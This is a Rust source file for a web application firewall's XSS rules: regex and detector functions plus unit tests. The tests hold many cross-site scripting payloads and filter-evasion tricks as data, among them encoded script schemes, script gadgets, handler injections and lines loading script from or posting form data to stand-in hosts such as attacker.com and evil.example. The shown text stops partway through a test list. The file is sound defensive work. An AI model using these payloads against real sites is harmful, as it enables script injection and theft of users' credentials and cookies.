//! XSS rules (941xxx): the HTML tag scanner and regexes for script URLs, JS-context
//! breakouts and script sinks.
use super::pipelines::*;
use super::targets::*;
use super::{Category::Xss, Check::*, RuleDef, Severity::*, rule};
use std::sync::LazyLock;

use crate::waf::js::{sink_reference, spelled_sink};
use crate::waf::xss::scan;

fn dangerous_tag(s: &str) -> bool {
    s.contains('<') && scan(s).dangerous_tag
}
fn event_handler(s: &str) -> bool {
    s.contains('<') && scan(s).event_handler
}
fn script_uri(s: &str) -> bool {
    s.contains('<') && scan(s).script_uri
}

/// Dangling markup is a tag left open at the end of the value; a leaking
/// stylesheet needs `url(`: only then is the value scanned again.
fn leaking_markup(s: &str) -> bool {
    let open_tail = s.rfind('<').is_some_and(|p| !s[p..].contains('>'));
    (open_tail || s.contains("url(")) && scan(s).leaks
}
/// DOM clobbering needs an element with an `id` or `name`.
fn clobbering_markup(s: &str) -> bool {
    (s.contains("id=") || s.contains("name=")) && scan(s).clobbers
}

/// An event handler calling a function: 941240's plain form (a literal `=`),
/// which is all a value with its junk tags taken out needs.
static HANDLER_CALL: LazyLock<Option<regex::Regex>> = LazyLock::new(|| {
    regex::Regex::new(
        r#"(?:^|['"`\s/;])on[a-z]{3,}\s*=\s*['"`]?\s*\(?\s*[\w$.\[\]'"]+\s*\)?\s*(?:\(|`)"#,
    )
    .ok()
});

/// Markup split by junk tags that a filter is expected to strip
/// (`o<x>nmouseover=alert<x>(1)`): a short tag with no attributes glued between a
/// letter and a letter or `(`. The value is read again without them; HTML that
/// writes `bold</b>text` has no handler or tag left to find.
fn tag_split_markup(s: &str) -> bool {
    let b = s.as_bytes();
    let mut cleaned = String::new();
    let mut last = 0;
    let mut from = 0;
    while let Some(p) = memchr::memchr(b'<', &b[from..]) {
        let lt = from + p;
        from = lt + 1;
        let Some(len) = b[lt + 1..].iter().take(12).position(|&c| c == b'>') else {
            continue;
        };
        let gt = lt + 1 + len;
        let name = &b[lt + 1..gt];
        let glued = lt > 0
            && b[lt - 1].is_ascii_alphanumeric()
            && b.get(gt + 1)
                .is_some_and(|&c| c.is_ascii_alphanumeric() || c == b'(');
        if glued && name.iter().all(|&c| c.is_ascii_alphanumeric() || c == b'/') {
            cleaned.push_str(&s[last..lt]);
            last = gt + 1;
            from = gt + 1;
        }
    }
    if last == 0 {
        return false;
    }
    cleaned.push_str(&s[last..]);
    HANDLER_CALL
        .as_ref()
        .is_some_and(|re| re.is_match(&cleaned))
        || (cleaned.contains('<') && scan(&cleaned).any())
}

/// `ja&Tab;vascript:`, `v&NewLine;b&Tab;script&colon;`, `java\tscript:x`: a
/// script scheme whose name whitespace entities or control characters split,
/// which only a filter evasion spells so, whatever follows the colon (a lone
/// `javascript:` is prose naming the scheme). An entity or a control character
/// inside `java` or `script`, or an entity between them, is one; a line break
/// between them (`Going live\nScript: …`) or a colon written as an entity
/// (`JavaScript&#x3a; The Good Parts`, an encoder's prose) count only before
/// something glued to the colon.
fn obfuscated_scheme(s: &str) -> bool {
    static SCHEME: LazyLock<Option<regex::Regex>> = LazyLock::new(|| {
        let gap = r"(?:&(?:tab|newline|#0*(?:9|10|13)|#x0*[9ad]);?|[\t\n\r])*";
        let spell = |word: &str| {
            let letters: Vec<String> = word.chars().map(String::from).collect();
            letters.join(gap)
        };
        regex::RegexBuilder::new(&format!(
            "(?:{}|{}|{})({gap})(?:{})({gap})(:|&colon;|&#0*58;?|&#x0*3a;?)",
            spell("java"),
            spell("vb"),
            spell("live"),
            spell("script"),
        ))
        .case_insensitive(true)
        .build()
        .ok()
    });
    let split = |t: &str| t.bytes().any(|c| matches!(c, b'&' | b'\t' | b'\n' | b'\r'));
    SCHEME.as_ref().is_some_and(|re| {
        re.captures_iter(s).any(|c| {
            let (Some(all), Some(between), Some(before), Some(colon)) =
                (c.get(0), c.get(1), c.get(2), c.get(3))
            else {
                return false;
            };
            let halves =
                split(&s[all.start()..between.start()]) || split(&s[between.end()..before.start()]);
            let entity_between = between.as_str().contains('&') || before.as_str().contains('&');
            let glued = s[all.end()..]
                .chars()
                .next()
                .is_some_and(|c| !c.is_whitespace());
            halves
                || entity_between
                || ((split(between.as_str()) || split(before.as_str()) || colon.len() > 1) && glued)
        })
    })
}

fn styled_markup(s: &str) -> bool {
    s.contains("style") && scan(s).styled
}

/// Elements whose content is text up to their end tag (raw text and escapable
/// raw text): a value shown in one that closes it leaves the text, and what
/// follows is read as markup.
const RAW_TEXT: &[&str] = &[
    "textarea", "title", "style", "script", "noscript", "xmp", "iframe", "noembed", "noframes",
];

/// The value opens by closing a raw-text element (`</textarea>`, `"></title>`,
/// nothing but ASCII punctuation before the end tag), and markup follows: a breakout
/// of the element the value is shown in, which scanners probe before any payload.
/// A fragment that closes what it opened, prose that names an end tag, and a
/// template partial (`{{ title }}</title><meta …>`) all have words before it.
fn raw_text_breakout(s: &str) -> bool {
    let b = s.as_bytes();
    let Some(at) = b
        .iter()
        .position(|c| c.is_ascii_alphanumeric() || *c >= 0x80 || *c == b'<')
    else {
        return false;
    };
    let Some(rest) = b.get(at..).and_then(|r| r.strip_prefix(b"</")) else {
        return false;
    };
    let len = rest.iter().take_while(|c| c.is_ascii_alphabetic()).count();
    let (name, after) = rest.split_at(len);
    // An end tag's name ends at a space, `/` or `>`, and the tag at the next `>`.
    let Some(end) = after
        .first()
        .filter(|c| c.is_ascii_whitespace() || matches!(c, b'/' | b'>'))
        .and_then(|_| memchr::memchr(b'>', after))
    else {
        return false;
    };
    RAW_TEXT.iter().any(|t| t.as_bytes() == name)
        && after.get(end..).is_some_and(|tail| {
            memchr::memchr_iter(b'<', tail).any(|lt| {
                tail.get(lt + 1)
                    .is_some_and(|&c| c.is_ascii_alphabetic() || c == b'!')
            })
        })
}

fn offsite_markup(s: &str) -> bool {
    (s.contains("url(") || s.contains("<form") || s.contains("hx-") || s.contains("url="))
        && scan(s).offsite
}

pub(super) fn rules() -> Vec<RuleDef> {
    let t = ATTACK | PATH;
    vec![
        rule(
            941110,
            Xss,
            1,
            Critical,
            t,
            XSS,
            Detector(dangerous_tag, b"<"),
            "XSS: script-capable tag",
        ),
        rule(
            941120,
            Xss,
            1,
            Critical,
            t,
            XSS,
            Detector(event_handler, b"<"),
            "XSS: event handler attribute",
        ),
        rule(
            941170,
            Xss,
            1,
            Critical,
            t,
            XSS,
            Detector(script_uri, b"<"),
            "XSS: script URL or CSS expression in an attribute",
        ),
        rule(
            941180,
            Xss,
            1,
            Critical,
            t,
            XSS_TIGHT,
            Regex(
                r##"(?:java|vb|live)script:(?:[\w$.\[\]'"]+[(`=]|//|/\*|\{|\(|!|void\b|\d|top\b|this\b|window\b|document\b|eval\b|self\b|parent\b|location\b|%)|\burl\(['"]?(?:java|vb|live)script(?:$|&|\\)"##,
            ),
            "XSS: javascript: URL",
        ),
        rule(
            941182,
            Xss,
            1,
            Critical,
            t,
            DEC,
            Detector(obfuscated_scheme, b"&\t\n\r"),
            "XSS: script scheme split by whitespace entities or control characters",
        ),
        rule(
            941181,
            Xss,
            1,
            Critical,
            t,
            XSS,
            // The whole value is a script URL, whatever it runs: a link or URL field
            // set to `javascript:x` (a scanner's probe, `javascript:vvv001234`).
            // "javascript: the good parts" has a space after the colon.
            Regex(r##"^\s*(?:java|vb|live)script:[^\s]"##),
            "XSS: the value is a javascript: URL",
        ),
        rule(
            941190,
            Xss,
            1,
            Critical,
            t,
            XSS_TIGHT,
            Regex(
                // Also a data: URL whose base64 body is markup (`<script`, `<svg`,
                // `<img`, `<iframe`, `<html`, `<body`, `<object`, `<embed`),
                // whatever type it claims.
                r##"\bdata:(?:text/html|image/svg\+xml|application/(?:x-)?(?:javascript|ecmascript|xhtml\+xml)|text/(?:javascript|ecmascript|xml))[;,]|\bdata:[a-z0-9.+/-]*(?:;[a-z0-9.=-]*)*;base64,(?:phnjcmlwd|phn2zy|pgltzy|pglmcmftz|pgh0bww|pgjvzhk|pg9iamvjd|pgvtymvk)"##,
            ),
            "XSS: data: URL with active content",
        ),
        rule(
            941200,
            Xss,
            1,
            Critical,
            t,
            XSS,
            // After closing brackets alone, a line break ends a statement (JS
            // inserts the semicolon), so a sink on the next line runs; but
            // `print(` and `self.` there are Python's (`foo("x")` and `self.bar = 1`
            // on the next line), and need an operator or the same line. A value
            // that opens with a statement break, after a number or a comment's
            // end, breaks out of a script's number or comment: a call with no
            // arguments that ends the value (`1;window.top.x.log()//`), a
            // navigation (`*/;location='//evil'`, `1;location.replace(…)`), or a
            // window's opener or timer (`1;window.setTimeout(name)`).
            Regex(concat!(
                r##"['"`]\s*[-+*/;,)\]}|&^%]+\s*\(?\s*(?:alert|prompt|confirm|eval)\s*\)?\s*(?:\(|`)"##,
                r##"|['"`]\s*(?:[-+*/;,)\]}|&^%]*[-+*/;|&^%][-+*/;,)\]}|&^%]*\s*|[,)\]}]+[ \t]*)(?:\(\s*)?print\s*\)?\s*(?:\(|`)"##,
                r##"|['"`]\s*[-+*/;)|&^%]+\s*(?:document|window|top|parent|location)\s*(?:\.|\[)"##,
                r##"|['"`]\s*(?:[-+*/;)|&^%]*[-+*/;|&^%][-+*/;)|&^%]*\s*|\)+[ \t]*)(?:self|this)\s*(?:\.|\[)"##,
                r##"|['"`]\s*[-+*/;,)|&^%]+\s*(?:fetch|atob|settimeout|setinterval|import)\s*\("##,
                r##"|['"`]\s*;\s*(?:new\s+function|function\s*\()"##,
                r##"|^\s*(?:-?\d+(?:\.\d+)?|\*/)?\s*;\s*(?:(?:window|top|self|parent|document)\s*\.\s*[\w$.]+\s*\(\s*\)\s*;?\s*(?://.*|/\*.*)?$|(?:(?:window|top|self|parent|document)\s*\.\s*)?location(?:(?:\s*\.\s*(?:href|host|hostname|pathname|hash|search|protocol|port))?\s*=[^=]|\s*\.\s*(?:replace|assign)\s*\()|(?:window|top|self|parent)\s*\.\s*(?:open|settimeout|setinterval|eval)\s*\()"##,
            )),
            "XSS: breaking out of a JS string",
        ),
        rule(
            941210,
            Xss,
            1,
            Critical,
            t,
            XSS,
            Regex(
                r##"\b(?:alert|prompt|confirm)\s*(?:\(\s*(?:\d|document\b|window\b|this\b|top\b|self\b|location\b|/|['"]\s*xss|string\s*\.|atob\b|`)|`)|\bdocument\s*\.\s*(?:cookie\b|domain\b|write(?:ln)?\s*\()|\bstring\s*\.\s*fromcharcode\s*\(|(?:^|[^`\w])set(?:timeout|interval)\s*`|\$\{\s*(?:alert|prompt|confirm|eval)\s*(?:\(|`)|\beval\s*\(\s*(?:atob|unescape|decodeuri\w*|string\b|location|name\b|window|this|`)|\.\s*(?:inner|outer)html\s*\+?=|\bwindow\s*\[\s*['"`]|\btop\s*\[\s*['"`]\w+['"`]\s*\+|\bdocument\s*(?:/\*[^*]*\*/\s*)*\)?\s*(?:/\*[^*]*\*/\s*)*(?:\.\s*(?:/\*[^*]*\*/\s*)*|\[\s*['"`])(?:cookie|domain)\b"##,
            ),
            "XSS: script sink",
        ),
        rule(
            941220,
            Xss,
            1,
            Critical,
            t,
            XSS,
            Regex(
                r##"</script\b|</(?:title|textarea|style|noscript|iframe|xmp|noembed|template)\s*>\s*<\s*(?:script|img|svg|iframe|body|object|embed|input|details|video|audio|math|a\s|x|marquee|form|button|select|textarea|style|base|link|frameset|isindex|image|keygen)"##,
            ),
            "XSS: closing a raw-text element",
        ),
        rule(
            941240,
            Xss,
            1,
            Critical,
            t,
            XSS,
            // The `=` may be JS-escaped for a string that is later written as
            // HTML (`onerror\x3dalert(1)`); a handler may be given a minified
            // arrow function (`onload=x=>…`; code written for people spaces it).
            Regex(
                r##"(?:^|['"`\s/;])on[a-z]{3,}\s*(?:=|\\x3d|\\u003d|\\u\{3d\}|\\0?75)[\s;]*['"`]?\s*\(?\s*[\w$.\[\]'"]+\s*\)?\s*(?:\(|`)|(?:^|['"`\s/;.])on[a-z]{3,}=(?:[a-z_$][\w$]*|\([\w$,]*\))=>|(?:^|['"`\s/;])on[a-z]{3,}\s*=\s*['"`]?\s*(?:var|let|const)\s+[\w$]+\s*="##,
            ),
            "XSS: event handler injected into an attribute",
        ),
        rule(
            941241,
            Xss,
            2,
            Critical,
            t,
            XSS,
            // A quote closed, then an event handler attribute with any value
            // (`" onmouseover=vvv001234`): the probe before the payload. Or a
            // style attribute after a quote that the value opens with (`'
            // style=vvv001234`); a quote inside markup or code before it is not
            // the end of the attribute the value was put in.
            Regex(
                r##"^\s*\w*['"`]\s+style\s*=\s*[^\s]|['"`]\s*(?:on(?:mouse|pointer|touch|key|drag|drop|focus|blur|click|dblclick|auxclick|contextmenu|error|load|unload|beforeunload|abort|change|input|invalid|submit|reset|select|search|scroll|wheel|zoom|resize|animation|transition|toggle|begin|end|repeat|play|pause|ended|canplay|message|hashchange|popstate|pageshow|copy|cut|paste|show|start|finish|readystatechange)[a-z]*|formaction)\s*=\s*(?:[^\s]|$)"##,
            ),
            "XSS: a quote closed, then an event handler attribute (or, opening the value, a style attribute)",
        ),
        rule(
            941250,
            Xss,
            1,
            Critical,
            t,
            XSS,
            Detector(leaking_markup, b"<"),
            "XSS: dangling markup or CSS that leaks the page",
        ),
        rule(
            941260,
            Xss,
            1,
            Critical,
            t,
            XSS,
            Regex(
                // A global's member picked by a computed string and called
                // (`top['al'+'ert'](1)`, `parent[/al/.source+/ert/.source](1)`); a
                // property name spelled only in escapes; `<` escaped for a JS string
                // before a tag name; the Function constructor run from a string
                // (`Function('code')()`, ``Set.constructor`code` ``); markup or a
                // script URL handed to `write`/`open` as a tagged template; a
                // Handlebars `lookup` of `constructor` or `__proto__`; a tag
                // opened in UTF-7 (`+ADw-script+AD4-`), for pages served without a
                // charset; a function called through `call`/`apply` as a tagged
                // template, which needs no parenthesis (``[].sort.call`${alert}1` ``);
                // JSFuck, script written in `[]`, `!`, `+` and parentheses alone.
                r##"\b(?:top|parent|self|window|frames|globalthis|content|opener|this)\s*(?:/\*[^*]*\*/\s*)*(?:\?\.\s*)?\[(?:[^\[\]]|\[[^\[\]]*\])*['"`/](?:[^\[\]]|\[[^\[\]]*\])*\]\s*(?:/\*[^*]*\*/\s*)*(?:\?\.\s*)?\(|\+adw-\s*/?\s*(?:script|img|svg|iframe|body|object|embed|style|a|meta|link|form|input|video|audio|details|math)\b|\[\s*['"`](?:\\(?:[0-7]{2,3}|x[0-9a-f]{2}|u[0-9a-f]{4}))+['"`]\s*\]|\\(?:x3c|u003c|u\{3c\}|0?74)\s*/?\s*(?:script|img|svg|iframe|body|object|embed|style|math|video|audio|details|input|image)\b|\bfunction\s*\(\s*['"`][^'"`]*['"`]\s*\)\s*\(|\.constructor\s*`|\.(?:write(?:ln)?|open)\s*`\s*(?:<|javas|vbs|data:|\\)|\{\{[^}]*\blookup\s[^}]*['"](?:constructor|__proto__|prototype)['"]|\.\s*(?:/\*[^*]*\*/\s*)*(?:call|apply|bind)\s*`[^`]{0,100}\$\{|(?:[()!+\[\]\s]*?[!+]\s*\[\s*\]){5,}"##,
            ),
            "XSS: script gadget (computed call, escaped name, Function from a string)",
        ),
        rule(
            941271,
            Xss,
            1,
            Critical,
            t,
            XSS,
            Detector(spelled_sink, b"(`"),
            "XSS: dialog or eval sink spelled with blanks between its letters and called",
        ),
        rule(
            941270,
            Xss,
            1,
            Critical,
            t,
            XSS,
            Detector(sink_reference, b"(=,[:?"),
            "XSS: dialog or eval sink passed, assigned or called indirectly",
        ),
        rule(
            941300,
            Xss,
            1,
            Critical,
            t,
            XSS,
            // Script bound outside HTML: an IE behavior or XBL binding loaded by
            // CSS (`behavior: url(x.htc)`), a PDF action dictionary that launches a
            // program, runs script or submits the document (`/S /Launch /F …`), an
            // `mhtml:` URL picking a part out of an archive, an IE expression in
            // a style attribute injected after a quote (`" style=x:expression(…)`).
            Regex(
                r##"(?:^|['"`\s/;])style\s*=\s*['"`]?(?:[^'"`<>]*;)?\s*[\w-]+\s*:[\s+]*expression\s*\(|\bbehavior\s*:\s*url\s*\(|-moz-binding\s*:\s*url\s*\(|/type\s*/action\b|/s\s*/(?:launch|javascript|submitform|importdata)\s*/|\bmhtml:[^\s!]+!"##,
            ),
            "XSS: script bound by CSS (an IE expression, a behavior, a binding), a PDF action or an mhtml: URL",
        ),
        rule(
            941310,
            Xss,
            1,
            Critical,
            t,
            XSS,
            Detector(tag_split_markup, b"<"),
            "XSS: handler or tag split by junk tags",
        ),
        rule(
            941320,
            Xss,
            1,
            Critical,
            t,
            XSS,
            Detector(clobbering_markup, b"<"),
            "XSS: element named after a document property (DOM clobbering)",
        ),
        rule(
            941280,
            Xss,
            2,
            Critical,
            t,
            XSS,
            Detector(offsite_markup, b"<"),
            "XSS: stylesheet, form, htmx request or refresh that loads from, posts to or goes to another site",
        ),
        rule(
            941340,
            Xss,
            2,
            Critical,
            t,
            XSS,
            Detector(raw_text_breakout, b"<"),
            "XSS: the value opens by closing a text element, then markup",
        ),
        rule(
            941330,
            Xss,
            2,
            Critical,
            t,
            XSS,
            Detector(styled_markup, b"<"),
            "XSS: an inline style with a comment or a script binding (CSS injection)",
        ),
        rule(
            941290,
            Xss,
            2,
            Critical,
            t,
            XSS,
            // A script loader handed an absolute off-site URL: `importScripts(`,
            // `$.getScript(`, a worker, a dynamic `import(`.
            Regex(
                r##"\b(?:importscripts|getscript|sharedworker|worker|import)\s*\(\s*['"`](?:https?:)?//"##,
            ),
            "XSS: script loaded from another site",
        ),
        rule(
            941230,
            Xss,
            2,
            Warning,
            t,
            XSS,
            Regex(
                r##"<(?:svg|math|style|link|form|input|button|video|audio|source|marquee|details|body|img|image|select|textarea|keygen|animate|set|use)\b"##,
            ),
            "XSS: potentially active HTML tag",
        ),
    ]
}

#[cfg(test)]
mod tests {
    use crate::waf::rules::fires;

    #[test]
    fn html_appended_to_the_dom_and_off_site_script_loaders_fire() {
        assert!(fires(
            941210,
            "ws.onmessage = (e) => { document.body.innerHTML += e.data; }"
        ));
        assert!(fires(941210, "el.outerHTML = x"));
        assert!(fires(941210, "document/*foo*/./*bar*/cookie"));
        assert!(fires(941210, "document /*foo*/ . cookie"));
        assert!(fires(941210, "(document)[\"cookie\"]"));
        assert!(fires(941210, "document['domain']"));
        assert!(!fires(941210, "the document [cookie policy] page"));
        assert!(!fires(941210, "documents/cookies.md"));
        assert!(!fires(941210, "the innerHTML property"));
        assert!(fires(
            941290,
            "importScripts('https://attacker.com/sw.js');"
        ));
        assert!(fires(
            941290,
            "onload=x=>$.getScript('//brutelogic.com.br/2.js')"
        ));
        assert!(fires(941290, "new SharedWorker('//evil.com/worker.js')"));
        assert!(!fires(941290, "import('./module.js')"));
        assert!(!fires(941290, "new Worker('worker.js')"));
        assert!(!fires(941290, "import (see https://example.com)"));
    }

    #[test]
    fn inline_css_with_a_comment_or_a_binding_fires_at_paranoia_2_but_editor_styles_do_not() {
        for a in [
            "<div style=\"background:url(/f#oo/;color:red/*/foo.jpg);\">X</div>",
            "<div style=\"font-family:foo{bar;color:red/*x*/\">X</div>",
            "<div style=\"behaviour: url(http://evil.example/x.htc);\">",
            "<div style=\"binding: url('http://evil.example/x.xml')\">",
            "&lt;p style=&quot;color:red/**/&quot;&gt;",
        ] {
            assert!(fires(941330, a), "missed {a:?}");
        }
        // What rich-text editors, Word, e-mail templates and front-end code write.
        for b in [
            "<p style=\"text-align: center;\">Hello</p>",
            "<span style=\"color: #e03e2d; font-family: 'Open Sans', sans-serif;\">red</span>",
            "<span style='mso-hansi-font-family:\"Times New\nRoman\"'>x</span>",
            "<td style=\"background-color: {{brand_color}};\">x</td>",
            "<div style={{ padding: 10 }}>x</div>",
            "<div style=\"grid-template-columns: [full-start] 1fr [full-end]\">x</div>",
            "<div style=\"background: url(https://example.com/bg.png)\">x</div>",
            "<p class=\"note\">a /* comment */ outside any style</p>",
        ] {
            assert!(!fires(941330, b), "flagged {b:?}");
        }
        let rule = crate::waf::rules::builtin()
            .into_iter()
            .find(|r| r.id == 941330);
        assert_eq!(rule.map(|r| r.paranoia), Some(2));
    }

    #[test]
    fn a_value_that_opens_by_closing_a_text_element_then_markup_fires() {
        for a in [
            "</textarea>--><xss_dom_xyzzy/><!--<textarea>",
            "\"></title><img src=x>",
            " </STYLE ><b>bold</b>",
            "</title/><x/>",
            "</textarea x><x/>",
            "'--></noscript><p title=\"</noscript><x>\">",
        ] {
            assert!(fires(941340, a), "missed {a:?}");
        }
        for b in [
            "<textarea>notes</textarea><p>next</p>",
            "close it with </textarea> and go on",
            "Put </style> before <body> in the template.",
            "{{ page.title }}</title>\n<meta name=\"description\" content=\"x\">",
            "</div><p>a fragment</p>",
            "</textarea >",
            "</titles><x>",
            "東京</title><meta name=\"x\">",
        ] {
            assert!(!fires(941340, b), "flagged {b:?}");
        }
    }

    #[test]
    fn escaped_markup_fires_whatever_real_tags_stand_around_it() {
        // A value may be decoded before it is read as markup, and a tag beside the
        // escaped one says nothing about that; nor do attribute values, which
        // scripts read back into the page.
        assert!(fires(
            941120,
            "<b>x</b> &lt;img src=x onerror=location=name&gt;"
        ));
        assert!(fires(941110, "<i></i>&lt;iframe src=//evil.example/p&gt;"));
        assert!(fires(
            941120,
            "<span title=\"&lt;img src=x onerror=alert(1)&gt;\">x</span>"
        ));
    }

    #[test]
    fn offsite_forms_and_htmx_requests_fire_but_same_site_ones_do_not() {
        for a in [
            "<form action='//evil.example/collect' method=post><input name=pass type=password></form>",
            "<div hx-get=\"//evil.example/x\" hx-trigger=\"load\" hx-swap=\"outerHTML\"></div>",
            "<img data-hx-post=\"https://evil.example/p\" hx-trigger=load src=x>",
        ] {
            assert!(fires(941280, a), "missed {a:?}");
        }
        for b in [
            "<form action=\"/search\"><input name=\"q\"></form>",
            "<button hx-get=\"/clicked\" hx-swap=\"outerHTML\">Click</button>",
            "set hx-get to https://api.example/items",
        ] {
            assert!(!fires(941280, b), "flagged {b:?}");
        }
    }

    #[test]
    fn an_escaped_equals_after_a_handler_fires() {
        assert!(fires(941240, "<img src=1 onerror\\x3dalert(1)>"));
        assert!(fires(941240, "\" onload\\u003dalert(1)"));
        assert!(!fires(941240, "the onload\\x3d escape"));
        // Handler code that starts with a declaration.
        assert!(fires(
            941240,
            "\" onload=\"var s=document.createElement(script);s.src=x;\""
        ));
        assert!(!fires(941240, "set onload = a var x = 1 hook"));
        // A sink in parentheses, called as a tagged template.
        assert!(fires(941240, "x\"\tautofocus\tonfocus=(prompt)``\t\""));
        assert!(!fires(941240, "onload = (see below) (twice)"));
    }

    #[test]
    fn minified_arrows_given_to_handlers_fire_but_spaced_code_does_not() {
        assert!(fires(
            941240,
            "onload=x=>$.getScript('//brutelogic.com.br/2.js')"
        ));
        assert!(fires(941240, "img.onerror=()=>fetch('//x')"));
        assert!(!fires(941240, "img.onload = () => { draw(); }"));
        assert!(!fires(941240, "the onload=>handler arrow"));
        assert!(fires(941240, "onfocus=;write(cookie)"));
        assert!(fires(941210, "setInterval`alert\\x28document.domain\\x29`"));
        assert!(!fires(941210, "setInterval and setTimeout"));
        assert!(!fires(
            941210,
            "mock `setTimeout`, `setInterval` from `globals`"
        ));
        assert!(fires(941260, "window[['a'][0]+'lert'](1337)"));
        assert!(!fires(941260, "see window [1] (below)"));
        // `this` is the global object at the top level of a script.
        assert!(fires(
            941260,
            "this[/*foo*/'print'/*bar*/](this[/*foo*/'document'/*bar*/]['domain'])"
        ));
        assert!(fires(941260, "${this['ale'+'rt'](this['doc'+'ument'])}"));
        assert!(!fires(941260, "this [is] (fine)"));
        // Breaking out of a string and a block, then calling a sink, maybe in
        // parentheses.
        for a in ["x');};confirm()//", "\";(prompt)``//", "`]};(prompt)``//"] {
            assert!(fires(941200, a), "missed {a}");
        }
        assert!(!fires(941200, "\"quoted\"} (printed) copy"));
        for a in [
            "');\nalert(1)//",
            "\"\n;self.location='//x'",
            "'), alert(1)",
            // JS ends the statement at the line break: the next line runs.
            "')\ntop.location=atob('Ly9ldmlsLmNvbQ');f('",
            "\")\nsetTimeout(atob(\"YWxlcnQoMSk=\"));f(\"",
            // A script's number or comment broken out of.
            "1;window.top._x.log_sink();//",
            ";window.location='//evil'",
            "*/;top.x.y()/*",
            " -1.5 ; document.body.remove()",
            "1;location.href='//evil'",
            "1;location.replace('//evil.com')//",
            "1;window.setTimeout(name)",
            "1;location.host='evil.com'",
        ] {
            assert!(fires(941200, a), "missed {a:?}");
        }
        for b in [
            "a;window.open(1)",
            "1; window.x == y",
            "see ;window.foo in the docs",
            // Snippets of scripts that open with a semicolon.
            ";window.dataLayer = window.dataLayer || [];",
            ";document.addEventListener('DOMContentLoaded', init);",
            "2;location.city=Paris",
            // Python's next statement after a line break.
            "raise TypeError(\"x\")\n            print(result.dump())",
            "foo(\"a\"))\n        self.literal = x",
        ] {
            assert!(!fires(941200, b), "flagged {b:?}");
        }
    }

    #[test]
    fn data_urls_carrying_base64_markup_fire_whatever_type_they_claim() {
        assert!(fires(
            941190,
            "<a href=\"data:application/x-x509-user-cert;&NewLine;base64&NewLine;,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">X</a>"
        ));
        assert!(fires(
            941190,
            "data:image/png;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"
        ));
        assert!(!fires(
            941190,
            "data:image/png;base64,iVBORw0KGgoAAAANSUhEUg"
        ));
    }

    #[test]
    fn a_handlebars_lookup_of_the_constructor_fires() {
        assert!(fires(
            941260,
            "{{lookup (lookup this \"constructor\") \"prototype\"}}"
        ));
        assert!(!fires(941260, "{{lookup people 'name'}}"));
    }

    #[test]
    fn a_script_url_as_the_value_or_a_handler_after_a_quote_fire_but_prose_does_not() {
        for a in [
            "javascript:vvv001234v001234",
            " vbscript:x",
            "JavaScript:foo",
        ] {
            assert!(fires(941181, a), "missed {a}");
        }
        for b in [
            "javascript: the good parts",
            "learn javascript:basics",
            "see https://x.example/javascript:y",
        ] {
            assert!(!fires(941181, b), "flagged {b}");
        }
        for a in [
            "\" onMouseOver=vvv001234v001234",
            "x' onfocus=y autofocus",
            "\"onerror=x",
            "' style=vvv001234v001234",
            "x\" style=\"position:fixed\"",
            // The probe with nothing after its `=`, and a form's action.
            "\"onzoom=",
            "'formaction=",
        ] {
            assert!(fires(941241, a), "missed {a}");
        }
        for b in [
            "<img src=\"https://cdn.example.com/a.png\" style=\"width: 300px;\">",
            "<table class=\"m\" style=\"border-collapse:collapse\">",
            "plot(x, label='a' style='--')",
            "the \"style=dark\" option",
            "\"online=true\"",
            "the \"one=1\" setting",
            "\" only = when set",
            "\"onclick\" handlers",
            "onboarding=true",
            "the formaction= attribute",
            "onload is an event",
        ] {
            assert!(!fires(941241, b), "flagged {b}");
        }
    }

    #[test]
    fn a_script_scheme_split_by_entities_or_controls_fires_but_its_name_does_not() {
        for a in [
            "ja&Tab;vascript: ",
            "ja&tab;vascript: ",
            "v&newline;b&tab;s&newline;c&newline;r&tab;i&tab;p&newline;t&colon;:",
            "java\tscript:x",
            "jav&#x09;ascript:alert(1)",
            "javascript&colon;alert(1)",
            "java\nscript:alert(1)",
            "<a href=\"ja&#10;vascript&#58;\">",
        ] {
            assert!(fires(941182, a), "missed {a:?}");
        }
        for b in [
            "javascript: the good parts",
            "Java & JavaScript: a comparison",
            "java\nscript writers",
            "vbscript:",
            "Tom &amp; Jerry: live",
            "JavaScript&#x3a; The Good Parts",
            "Learn JavaScript&colon; a primer",
            "Going live\nScript: Welcome everyone",
            "VB\nScript: legacy",
        ] {
            assert!(!fires(941182, b), "flagged {b:?}");
        }
        assert!(fires(941180, "x=x:url(javascript"));
        assert!(!fires(941180, "the url of javascript docs"));
        assert!(!fires(941180, ".icon { background: url(javascript.png) }"));
    }

    #[test]
    fn css_behaviors_pdf_actions_and_mhtml_fire_but_prose_does_not() {
        for a in [
            "behavior: url(xss.htc);",
            "-moz-binding:url(//evil.com/x.xml#xss)",
            "/Type /Action /S /Launch /Win << /F (cmd.exe) /P (/c calc) >>",
            "/S /JavaScript /JS (app.alert(1))",
            "mhtml:http://attacker.com/n.html!xss.html",
            "' style=abc:expression(alert(1)) '",
            "x\" style=\"background-image: expression(alert('x'))",
        ] {
            assert!(fires(941300, a), "missed {a}");
        }
        for b in [
            "request-continuation behavior: see below",
            "style = a regular expression (see the manual)",
            "the style: expression (noun), expressive (adjective)",
            "the /S switch runs setup silently",
            "save as mhtml: a single file",
            "installer.exe /S /D=C:\\Apps",
        ] {
            assert!(!fires(941300, b), "flagged {b}");
        }
    }

    #[test]
    fn markup_split_by_junk_tags_is_read_without_them() {
        use super::tag_split_markup;
        assert!(tag_split_markup("\"o<x>nmouseover=alert<x>(1)//"));
        assert!(tag_split_markup("\"autof<x>ocus o<x>nfocus=alert<x>(1)//"));
        assert!(tag_split_markup("<scr<b>ipt>alert(1)</script>"));
        assert!(!tag_split_markup("<b>bold</b>text and <i>more</i>"));
        assert!(!tag_split_markup("x<br>y onclick is an attribute"));
        assert!(!tag_split_markup("a<3 and b>c"));
    }

    #[test]
    fn script_gadgets_fire_but_code_and_prose_do_not() {
        for a in [
            "top['al'+'ert'](1)",
            "parent[\"alert\"](1)",
            "top[/al/.source+/ert/.source](1)",
            "self[`al`+`ert`](1)",
            "[]['\\146\\151\\154\\164\\145\\162']",
            "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
            "\\74script\\76alert(1)\\74/script\\76",
            "write('\\74img/src/o\\156error\\75alert\\501\\51\\76')",
            "\\u003cscript\\u003ealert(1)",
            "Function('return this')()",
            "Set.constructor`alert\\x28document.domain\\x29```",
            "top.open`javas\\cript:al\\ert\\x281\\x29`",
            "document.write`<img src=x onerror=alert(1)>`",
            "[].sort.call`${alert}1337`",
            "self  /*jhb*/  [  /*bar*/  \"alert\"](\"xss\")",
            "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
